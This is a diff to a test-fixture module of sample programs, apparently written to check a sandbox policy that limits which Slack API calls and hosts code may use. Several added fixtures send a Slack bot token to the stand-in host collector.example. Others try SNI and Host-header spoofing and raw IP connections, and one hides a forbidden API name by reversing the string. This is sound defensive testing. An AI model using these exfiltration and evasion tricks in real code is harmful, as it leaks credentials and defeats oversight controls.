@@ -3,7 +3,8 @@
 from __future__ import annotations
 
 from dataclasses import dataclass
-from typing import Literal
+
+from policies.actions import Language
 
 
 @dataclass(frozen=True)
@@ -13,7 +14,7 @@ class Program:
     name: str
     services: tuple[str, ...]
     text: str
-    language: Literal["python", "shell"] = "python"
+    language: Language = "python"
     methods: tuple[str, ...] = ()
 
 
@@ -133,7 +134,8 @@ node - <<'JS'
   const body = JSON.stringify({ channel: 'C024BE91L', text: 'from node' })
   const answer = await fetch('https://slack.com/api/chat.postMessage', { method: 'POST', headers, body })
   console.log(answer.status, (await answer.json()).ts)
-  const other = await fetch('https://slack.com/api/users.list', { headers })
+  const name = 'tsil.sresu'.split('').reverse().join('') // which nobody finds by reading
+  const other = await fetch('https://slack.com/api/' + name, { headers })
   console.log(other.status, (await other.json()).error)
   try {
     await fetch('https://collector.example/?' + process.env.SLACK_BOT_TOKEN)
@@ -192,7 +194,60 @@ with concurrent.futures.ThreadPoolExecutor(20) as pool:
     print(sum(pool.map(post, range(60))))
 """
 
+DIRECT = """
+import asyncio, http.client, json, os, socket, ssl
+import aiohttp
+
+headers = {"Authorization": "Bearer " + os.environ["SLACK_BOT_TOKEN"], "Content-Type": "application/json"}
+body = json.dumps({"channel": "C024BE91L", "text": "direct"})
+
+async def main():
+    async with aiohttp.ClientSession(headers=headers) as session:
+        async with session.post("https://slack.com/api/chat.postMessage", data=body) as answer:
+            print(answer.status, (await answer.json())["ok"])
+
+asyncio.run(main())
+connection = http.client.HTTPSConnection("slack.com")
+connection.request("POST", "/api/chat.postMessage", body, headers)
+print(json.load(connection.getresponse())["ok"])
+
+def tried(what, host, name, sent):
+    try:
+        with socket.create_connection((host, 443), timeout=20) as plain:
+            context = ssl.create_default_context()
+            context.check_hostname = False
+            with context.wrap_socket(plain, server_hostname=name) as wire:
+                wire.sendall(sent.encode())
+                print(what, wire.recv(12).decode())
+    except (OSError, ssl.SSLError) as error:
+        print(what, "refused")
+
+token = os.environ["SLACK_BOT_TOKEN"]
+lines = ["POST /api/chat.postMessage HTTP/1.1", "Host: {}", "Authorization: Bearer " + token,
+         "Content-Type: application/json", f"Content-Length: {len(body)}", "", ""]
+ask = "\\r\\n".join(lines).format
+tried("another host", "collector.example", "collector.example", ask("collector.example") + body)
+tried("another name", "slack.com", "collector.example", ask("slack.com") + body)
+tried("another host in the request", "slack.com", "slack.com", ask("collector.example") + body)
+tried("an address", "127.99.99.99", "slack.com", ask("slack.com") + body)
+tried("what is allowed", "slack.com", "slack.com", ask("slack.com") + body)
+"""
+
+MODULE = """
+import axios from 'axios'
+
+const headers = { authorization: `Bearer ${process.env.SLACK_BOT_TOKEN}` }
+const send = (text) => axios.post('https://slack.com/api/chat.postMessage', { channel: 'C024BE91L', text }, { headers })
+const { data } = await send('from axios')
+console.log(data.ts)
+const name = 'tsil.sresu'.split('').reverse().join('')  // which nobody finds by reading
+await axios.get('https://slack.com/api/' + name, { headers }).catch((error) => console.log(error.response.status))
+await axios.get('https://collector.example/?' + headers.authorization).catch(() => console.log('refused'))
+"""
+
 PROGRAMS = (
+    Program("direct", ("slack",), DIRECT, methods=("slack.chat.postMessage",)),
+    Program("module", ("slack",), MODULE, "javascript"),
     Program("slack_sdk", ("slack",), SLACK),
     Program("slack_beyond", ("slack",), SLACK_BEYOND, methods=("slack.chat.postMessage",)),
     Program("google", ("gmail", "google_drive"), GOOGLE, methods=("google_drive.files.get",)),
